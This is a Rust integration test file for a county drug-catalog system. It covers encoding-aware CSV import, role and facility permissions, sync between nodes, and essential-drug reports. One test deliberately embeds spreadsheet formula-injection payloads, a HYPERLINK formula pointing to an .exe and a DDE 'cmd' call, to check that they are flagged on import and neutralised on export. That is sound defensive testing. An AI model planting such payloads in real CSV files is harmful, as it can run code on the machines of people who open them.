//! The county drug catalog, stock rows, dispensing and reports through the real binary and
//! real sync (issue 6): a 3,000-row catalog in each encoding, a bad file that imports
//! nothing, the pharmacy role, stock rows only for one's own facility, and report figures.

use std::path::Path;
use std::time::Duration;

use yilian_node::documents::catalog::{catalog_id, sample_csv};
use yilian_node::documents::csvfile::{TextEncoding, encode};
use yilian_tests::*;

const WAIT: Duration = Duration::from_secs(60);

fn write(dir: &Path, name: &str, bytes: &[u8]) -> String {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p.to_str().unwrap().to_string()
}

fn import(dir: &Path, file: &str) -> serde_json::Value {
    json(dir, &["catalog", "import", file, "--json"])
}

fn count(dir: &Path) -> usize {
    json(dir, &["catalog", "list", "--all", "--json"])
        .as_array()
        .unwrap()
        .len()
}

#[test]
fn a_3000_row_catalog_in_every_encoding_bad_files_and_the_pharmacy_role() {
    let tmp = tempdir();
    let files = tmp.path();
    let alliance = Alliance::new(tmp.path(), "Catalog A");
    let ch = alliance.node("CH-01", "county-hospital", "pharmacy");
    let tc = alliance.node("TC-01", "township-center", "");
    let text = sample_csv(3000);
    let gbk = write(files, "gbk.csv", &encode(&text, TextEncoding::Gbk).unwrap());
    let bom = write(
        files,
        "bom.csv",
        &encode(&text, TextEncoding::Utf8Bom).unwrap(),
    );
    let utf8 = write(files, "utf8.csv", text.as_bytes());

    // A township node without the pharmacy role may not edit the catalog.
    let (code, err) = fails(&tc, &["catalog", "import", &utf8]);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("pharmacy role"), "{err}");

    // A dry run writes nothing; the GBK file imports all 3,000; the other encodings are the
    // same catalog (every row unchanged).
    let r = json(&ch, &["catalog", "import", &gbk, "--dry-run", "--json"]);
    assert_eq!(
        (r["added"].as_array().unwrap().len(), r["applied"].as_bool()),
        (3000, Some(false))
    );
    assert_eq!(count(&ch), 0);
    let r = import(&ch, &gbk);
    assert_eq!(r["encoding"], "gbk");
    assert_eq!(r["added"].as_array().unwrap().len(), 3000);
    assert_eq!(r["applied"], true);
    for (file, enc) in [(&bom, "utf-8-bom"), (&utf8, "utf-8")] {
        let r = import(&ch, file);
        assert_eq!(r["encoding"], enc);
        assert_eq!(r["unchanged"], 3000, "{enc}");
        assert_eq!(r["applied"], false);
    }
    assert_eq!(count(&ch), 3000);
    let essential = json(&ch, &["catalog", "list", "--essential", "--json"]);
    let essential = essential.as_array().unwrap();
    assert!(essential.iter().all(|l| l["entry"]["essential"] == true));
    let found = json(&ch, &["catalog", "list", "--search", "阿莫西林", "--json"]);
    let found = found.as_array().unwrap();
    // 阿莫西林 and its numbered synthetic variants, two specifications each.
    assert_eq!(found.len(), 84);
    assert!(found.iter().all(|l| {
        l["entry"]["generic_name"]
            .as_str()
            .unwrap()
            .contains("阿莫西林")
    }));
    let heads = heads_of(&ch, &catalog_id().to_string()).unwrap();

    // A file with bad rows imports nothing and names every bad line.
    let mut lines: Vec<String> = text.lines().take(6).map(str::to_string).collect();
    let first = lines[1].clone();
    lines[1] = lines[1].replace("在用", "停用"); // a valid change that must not be applied
    lines[2] = lines[2]
        .replacen(",甲,", ",丙,", 1)
        .replacen(",乙,", ",丙,", 1);
    lines[4] = lines[4].split(',').take(3).collect::<Vec<_>>().join(",");
    lines.push(first);
    let bad = write(files, "bad.csv", lines.join("\r\n").as_bytes());
    let (code, err) = fails(&ch, &["catalog", "import", &bad]);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("bad.csv:3: insurance_class: \"丙\""), "{err}");
    assert!(err.contains("bad.csv:5: has 3 cells"), "{err}");
    assert!(
        err.contains("bad.csv:7: code:") && err.contains("repeats line 2"),
        "{err}"
    );
    assert!(err.contains("nothing imported: 3 rows rejected"), "{err}");
    assert_eq!(heads_of(&ch, &catalog_id().to_string()).unwrap(), heads);
    let no_col = write(files, "nocol.csv", "医保药品代码,通用名\nX,Y\n".as_bytes());
    let (code, err) = fails(&ch, &["catalog", "import", &no_col]);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("missing columns: dosage_form"), "{err}");
    assert_eq!(heads_of(&ch, &catalog_id().to_string()).unwrap(), heads);

    // Export in GBK and import again: nothing changes.
    let out = files.join("export.csv");
    ok(
        &ch,
        &[
            "catalog",
            "export",
            "--out",
            out.to_str().unwrap(),
            "--encoding",
            "gbk",
        ],
    );
    let r = import(&ch, out.to_str().unwrap());
    assert_eq!(
        (r["encoding"].as_str(), r["unchanged"].as_u64()),
        (Some("gbk"), Some(3000))
    );

    // The catalog reaches the township; it writes its own stock row, not the county's.
    let _c = NodeProcess::start(&ch);
    let _t = NodeProcess::start(&tc);
    ok(&tc, &["peer", "add", "--addr", &node_addr(&ch).to_string()]);
    wait_converged(&[&ch, &tc], &catalog_id().to_string(), WAIT);
    assert_eq!(count(&tc), 3000);
    let code = essential[0]["entry"]["code"].as_str().unwrap().to_string();
    ok(
        &tc,
        &[
            "catalog",
            "stock",
            "set",
            &code,
            "--available",
            "yes",
            "--qty",
            "40",
        ],
    );
    let (c, err) = fails(
        &tc,
        &[
            "catalog",
            "stock",
            "set",
            &code,
            "--available",
            "no",
            "--facility",
            "CH-01",
        ],
    );
    assert_eq!(c, 4, "{err}");
    assert!(
        err.contains("TC-01 may write only its own stock rows, not CH-01's"),
        "{err}"
    );
    let (c, err) = fails(
        &tc,
        &[
            "catalog",
            "stock",
            "set",
            "XA01ABD075A002010100499",
            "--available",
            "yes",
        ],
    );
    assert_eq!(c, 4, "{err}");
    assert!(err.contains("not in the county catalog"), "{err}");
    wait_until(WAIT, "the township's stock row to reach the county", || {
        let s = json(&ch, &["catalog", "show", &code, "--json"]);
        s["stock"].as_array().is_some_and(|a| {
            a.iter()
                .any(|r| r["facility"] == "TC-01" && r["quantity"] == 40)
        })
    });
    let (c, err) = fails(&tc, &["catalog", "import", &utf8]);
    assert_eq!(c, 4, "{err}");

    // Dispensing summaries on the township and the county, then the usage report: the
    // township (primary, 80%) dispenses 60% essential by amount, the county (secondary, 30%)
    // 50%.
    let plain = json(&ch, &["catalog", "list", "--json"]);
    let other = plain
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["entry"]["essential"] == false)
        .unwrap()["entry"]["code"]
        .as_str()
        .unwrap()
        .to_string();
    let disp = write(
        files,
        "disp.csv",
        format!(
            "统计期间,医保药品代码,数量,金额\n2026-06,{code},60,600.00\n2026-06,{other},40,400\n"
        )
        .as_bytes(),
    );
    let r = json(&tc, &["dispensing", "import", &disp, "--json"]);
    assert_eq!(
        (r["recorded"].as_u64(), r["applied"].as_bool()),
        (Some(2), Some(true))
    );
    for (c, amount) in [(&code, "50"), (&other, "50")] {
        ok(
            &ch,
            &[
                "dispensing",
                "add",
                "--period",
                "2026-06",
                "--code",
                c,
                "--quantity",
                "5",
                "--amount",
                amount,
            ],
        );
    }
    wait_until(WAIT, "the township's summary to reach the county", || {
        json(&ch, &["dispensing", "list", "--json"])
            .as_array()
            .unwrap()
            .len()
            == 2
    });
    let rep = json(
        &ch,
        &[
            "report",
            "essential-drugs",
            "--from",
            "2026-06-01",
            "--to",
            "2026-06-30",
            "--format",
            "json",
        ],
    );
    assert_eq!(rep["report"], "essential-drugs");
    let rows = rep["rows"].as_array().unwrap();
    let row = |f: &str| rows.iter().find(|r| r["facility"] == f).unwrap().clone();
    assert_eq!(row("TC-01")["amount_pct"], 60.0);
    assert_eq!(row("TC-01")["target_pct"], 80.0);
    assert_eq!(row("TC-01")["below_target"], true);
    assert_eq!(row("CH-01")["amount_pct"], 50.0);
    assert_eq!(row("CH-01")["level"], "secondary");
    assert_eq!(row("CH-01")["below_target"], false);
    let csv = ok(
        &ch,
        &[
            "report",
            "essential-drugs",
            "--from",
            "2026-06-01",
            "--to",
            "2026-06-30",
            "--format",
            "csv",
        ],
    );
    assert!(
        csv.lines()
            .next()
            .unwrap()
            .starts_with("facility,level,months,amount_yuan"),
        "{csv}"
    );
    assert!(
        csv.contains("TC-01,primary,1,1000.00,600.00,60.0,100,60,60.0,80.0,BELOW,0"),
        "{csv}"
    );

    // The semiannual package for the health commission.
    let out = files.join("h1");
    ok(
        &ch,
        &[
            "report",
            "semiannual",
            "--year",
            "2026",
            "--half",
            "1",
            "--out",
            out.to_str().unwrap(),
        ],
    );
    for k in ["referrals", "recognition", "essential-drugs", "outreach"] {
        let j: serde_json::Value =
            serde_json::from_slice(&std::fs::read(out.join(format!("{k}.json"))).unwrap()).unwrap();
        assert_eq!(j["report"], k);
        assert_eq!(j["period"]["from"], "2026-01-01");
        let csv = std::fs::read(out.join(format!("{k}.csv"))).unwrap();
        assert!(
            csv.starts_with(&[0xEF, 0xBB, 0xBF]),
            "{k}.csv has no BOM for Excel"
        );
    }
    let html = std::fs::read_to_string(out.join("summary.html")).unwrap();
    assert!(
        html.contains("<svg") && html.contains("60.0%（目标 80%）"),
        "{html}"
    );
}

/// Runs a command that must succeed; returns stdout and stderr.
fn ok_with_notes(dir: &Path, args: &[&str]) -> (String, String) {
    let out = run(dir, args);
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(out.status.success(), "yilian {args:?}: {stderr}");
    (String::from_utf8(out.stdout).unwrap(), stderr)
}

/// No cell of CSV text starts like a formula (quoted cells included).
fn no_formula_cell(csv: &str) -> bool {
    csv.split("\r\n").all(|line| {
        line.split(',')
            .all(|cell| !cell.trim_start_matches('"').starts_with(['=', '+', '@']))
    })
}

const CODE: &str = "XA01ABD075A002010100483";

/// Issue 13 item 6: cells Excel would run as formulas — a catalog cell such as
/// `=HYPERLINK(...)` or a DDE call, a facility field of a document from a broken or hostile
/// peer — are warned about on import and written as text in every CSV yilian writes; an
/// exported file imports back unchanged.
#[test]
fn formula_cells_warn_on_import_and_are_text_in_every_csv_written() {
    let tmp = tempdir();
    let files = tmp.path();
    let alliance = Alliance::new(tmp.path(), "Catalog F");
    let ch = alliance.node("CH-01", "county-hospital", "pharmacy");
    let link = "=HYPERLINK(\"http://x.cn/a.exe\",\"点击查看说明书\")";
    let dde = "=cmd|' /C calc'!A0";
    let text = format!(
        "{}{CODE},\"{}\",胶囊,0.25g,24/盒,{dde},甲,是,否,在用\r\n",
        sample_csv(6),
        link.replace('"', "\"\"")
    );
    let evil = write(files, "evil.csv", text.as_bytes());
    let (_, err) = ok_with_notes(&ch, &["catalog", "import", &evil]);
    assert!(
        err.contains(&format!(
            "{evil}:8: warning: column \"通用名\" (generic_name) starts with '='"
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "{evil}:8: warning: column \"生产企业\" (manufacturer) starts with '='"
        )),
        "{err}"
    );
    let r = json(&ch, &["catalog", "import", &evil, "--dry-run", "--json"]);
    assert_eq!(r["formula_cells"].as_array().unwrap().len(), 2, "{r}");
    let shown = json(&ch, &["catalog", "show", CODE, "--json"]);
    assert_eq!(shown["entry"]["generic_name"], link);

    // The export writes them as text; importing it changes nothing and warns of nothing.
    let out = files.join("export.csv");
    ok(&ch, &["catalog", "export", "--out", out.to_str().unwrap()]);
    let exported = std::fs::read(&out).unwrap();
    let exported = std::str::from_utf8(&exported[3..]).unwrap();
    assert!(exported.contains(",'=cmd|' /C calc'!A0,"), "{exported}");
    assert!(
        exported.contains(&format!(",\"'{}\",", link.replace('"', "\"\""))),
        "{exported}"
    );
    assert!(no_formula_cell(exported), "{exported}");
    let (_, err) = ok_with_notes(&ch, &["catalog", "import", out.to_str().unwrap()]);
    assert!(!err.contains("warning"), "{err}");
    let r = import(&ch, out.to_str().unwrap());
    assert_eq!(
        (r["unchanged"].as_u64(), r["applied"].as_bool()),
        (Some(7), Some(false))
    );
    assert_eq!(
        json(&ch, &["catalog", "show", CODE, "--json"])["entry"],
        shown["entry"]
    );

    // A dispensing summary whose facility field is a formula, as a broken or hostile peer
    // could send one (here imported as a document): the report CSVs carry it as text.
    let mut doc = automerge::Automerge::new();
    let row = yilian_node::documents::dispensing::DispensedRow {
        quantity: 3,
        amount_fen: 300,
        updated_ms: 1,
    };
    yilian_node::documents::dispensing::write(
        &mut doc,
        dde,
        yilian_node::documents::dispensing::Level::Primary,
        "2026-06",
        &[(CODE.to_string(), row)],
    )
    .unwrap();
    let summary = write(files, "summary.automerge", &doc.save());
    ok(&ch, &["doc", "import", &summary, "--kind", "dispensing"]);
    let period = ["--from", "2026-06-01", "--to", "2026-06-30"];
    let csv = ok(
        &ch,
        &[
            &["report", "essential-drugs", "--format", "csv"][..],
            &period[..],
        ]
        .concat(),
    );
    assert!(
        csv.contains("'=cmd|' /C calc'!A0,primary,1,3.00,3.00,100.0"),
        "{csv}"
    );
    assert!(no_formula_cell(&csv), "{csv}");
    let h1 = files.join("h1");
    ok(
        &ch,
        &[
            "report",
            "semiannual",
            "--year",
            "2026",
            "--half",
            "1",
            "--out",
            h1.to_str().unwrap(),
        ],
    );
    let csv = std::fs::read_to_string(h1.join("essential-drugs.csv")).unwrap();
    assert!(csv.contains("'=cmd|' /C calc'!A0,primary"), "{csv}");
    assert!(no_formula_cell(&csv), "{csv}");
}

/// Issue 13 item 7: what pharmacists ran into — look-alike rows in `catalog list`, a 一品两规
/// warning on every import, a renamed workbook, UTF-16 big-endian, annotated headers, a file
/// with no rows.
#[test]
fn the_files_pharmacists_have_and_what_they_see() {
    let tmp = tempdir();
    let files = tmp.path();
    let alliance = Alliance::new(tmp.path(), "Catalog P");
    let ch = alliance.node("CH-01", "county-hospital", "pharmacy");
    let text = sample_csv(10);
    let header = text.lines().next().unwrap();
    // A third oral specification of 阿莫西林 (the first generic name) breaks 一品两规.
    let mut third: Vec<String> = text
        .lines()
        .nth(1)
        .unwrap()
        .split(',')
        .map(String::from)
        .collect();
    third[0] = "XA00ABA000A001000910000".into();
    third[3] = "1g".into();
    let all = write(
        files,
        "all.csv",
        format!("{text}{}\r\n", third.join(",")).as_bytes(),
    );
    let (out, _) = ok_with_notes(&ch, &["catalog", "import", &all]);
    assert!(
        out.contains("warning: 阿莫西林: 3 oral specifications"),
        "{out}"
    );

    // Eighteen 阿莫西林 rows must not look alike: the table shows package and manufacturer.
    let list = ok(&ch, &["catalog", "list", "--search", "阿莫西林"]);
    for want in [
        "package",
        "manufacturer",
        "24/盒",
        "12/盒",
        "华北制药股份有限公司",
    ] {
        assert!(list.contains(want), "{want} missing:\n{list}");
    }

    // A file about another drug says nothing of 阿莫西林.
    let other = text.lines().nth(3).unwrap().replace("12/盒", "48/盒");
    let other = write(
        files,
        "other.csv",
        format!("{header}\r\n{other}\r\n").as_bytes(),
    );
    let (out, err) = ok_with_notes(&ch, &["catalog", "import", &other]);
    assert!(
        !out.contains("一品两规") && !err.contains("一品两规"),
        "{out}{err}"
    );
    assert!(out.contains("imported"), "{out}");

    // A workbook renamed to .csv (a ZIP holding xl/workbook.xml, as every .xlsx does).
    let mut xlsx = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00".to_vec();
    xlsx.extend_from_slice(&[0; 14]);
    xlsx.extend_from_slice(b"\x0f\x00\x00\x00xl/workbook.xml");
    let xlsx = write(files, "目录.csv", &xlsx);
    let (code, err) = fails(&ch, &["catalog", "import", &xlsx]);
    assert_eq!(code, 4, "{err}");
    assert!(
        err.contains("this is an Excel workbook (.xlsx), not a CSV file")
            && err.contains("save it as CSV"),
        "{err}"
    );
    assert!(!err.contains("GBK"), "{err}");

    // UTF-16 big-endian with a byte-order mark, tab-separated like Excel's "Unicode text".
    let be = encode(&text.replace(',', "\t"), TextEncoding::Utf16Be).unwrap();
    let be = write(files, "be.txt", &be);
    let r = json(&ch, &["catalog", "import", &be, "--dry-run", "--json"]);
    assert_eq!(r["encoding"], "utf-16be");
    assert_eq!(r["rejected"].as_array().unwrap().len(), 0, "{r}");
    assert_eq!(r["rows"], 10);

    // Headers with bracketed annotations, full- and half-width.
    let annotated = text.replacen(
        header,
        "【医保药品代码】,通用名,剂型,规格（单位）,[包装],生产企业,医保类别(甲/乙),基本药物（是/否）,长处方,状态",
        1,
    );
    let annotated = write(files, "annotated.csv", annotated.as_bytes());
    let r = json(
        &ch,
        &["catalog", "import", &annotated, "--dry-run", "--json"],
    );
    assert_eq!(r["rejected"].as_array().unwrap().len(), 0, "{r}");
    assert_eq!(r["rows"], 10, "{r}");

    // A header and no rows is the wrong file: refused, for the catalog and for dispensing.
    let empty = write(files, "empty.csv", format!("{header}\r\n").as_bytes());
    let (code, err) = fails(&ch, &["catalog", "import", &empty]);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("no data rows"), "{err}");
    let empty = write(
        files,
        "empty-disp.csv",
        "统计期间,医保药品代码,数量,金额(元)\r\n".as_bytes(),
    );
    let (code, err) = fails(&ch, &["dispensing", "import", &empty]);
    assert_eq!(code, 4, "{err}");
    assert!(err.contains("no data rows"), "{err}");
}
